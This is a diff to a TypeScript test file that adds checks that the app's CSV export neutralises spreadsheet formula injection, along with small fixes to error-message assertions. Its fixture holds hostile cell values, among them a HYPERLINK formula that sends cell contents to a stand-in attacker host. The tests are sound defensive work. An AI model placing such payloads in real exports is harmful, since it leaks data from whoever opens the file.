@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { parseAnalysisRecord, serialiseAnalysis, AnalysisFileError, type AnalysisRecord } from '../../pipeline/analysis/record.ts';
 import { MPII_JOINTS } from '../../pipeline/pose/skeleton.ts';
@@ -64,6 +65,26 @@ describe('CSV', () => {
   });
 });
 
+describe('CSV a spreadsheet reads safely', () => {
+  it('neutralises cells a spreadsheet would run as formulas; a real CSV parser reads the text back', () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', '+1+2', '-3+4', '@SUM(A1)', '\tx', '\rx'];
+    const records = hostile.map((fileName, i) => ({ ...fixture(), id: `h${i}`, clip: { ...fixture().clip, fileName } }));
+    const rows = parse(sessionCsv(records), { relax_column_count: false }) as string[][];
+    const clips = rows.slice(1).map((r) => r[SESSION_COLUMNS.indexOf('clip')]);
+    expect(clips).toEqual(hostile.map((name) => `'${name}`));
+    for (const c of clips) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+    // Numbers stay numbers, negative ones included.
+    expect(toCsv(['n'], [[-3.25]])).toBe('n\r\n-3.25\r\n');
+  });
+
+  it('what the app writes is read back cell for cell by csv-parse', () => {
+    const text = framesCsv(fixture());
+    expect(parse(text)).toEqual(parseCsv(text));
+    const session = sessionCsv([fixture()]);
+    expect(parse(session)).toEqual(parseCsv(session));
+  });
+});
+
 describe('analysis JSON', () => {
   it('round-trips an analysis unchanged', () => {
     const record = fixture();
@@ -84,7 +105,7 @@ describe('analysis JSON', () => {
       expect(error).toBeInstanceOf(AnalysisFileError);
       message = (error as Error).message;
     }
-    expect(message).toMatch(/pose\.joints has 285 values, expected 288/);
+    expect(message).toMatch(/pose\.joints: has 285 values, expected 288/);
     expect(message).toMatch(/stages\.used: take-off must end before entry starts/);
   });
 
@@ -97,6 +118,6 @@ describe('analysis JSON', () => {
     const record = { ...fixture(), encoded };
     expect(parseAnalysisRecord(serialiseAnalysis(record)).encoded?.sceneTrack).toEqual(encoded.sceneTrack);
     const short = { ...record, encoded: { ...encoded, sceneTrack: encoded.sceneTrack.slice(1) } };
-    expect(() => parseAnalysisRecord(JSON.stringify(short), 'x.json')).toThrow(/encoded\.sceneTrack has 19 values, expected 20/);
+    expect(() => parseAnalysisRecord(JSON.stringify(short), 'x.json')).toThrow(/encoded\.sceneTrack: has 19 values, expected 20/);
   });
 });
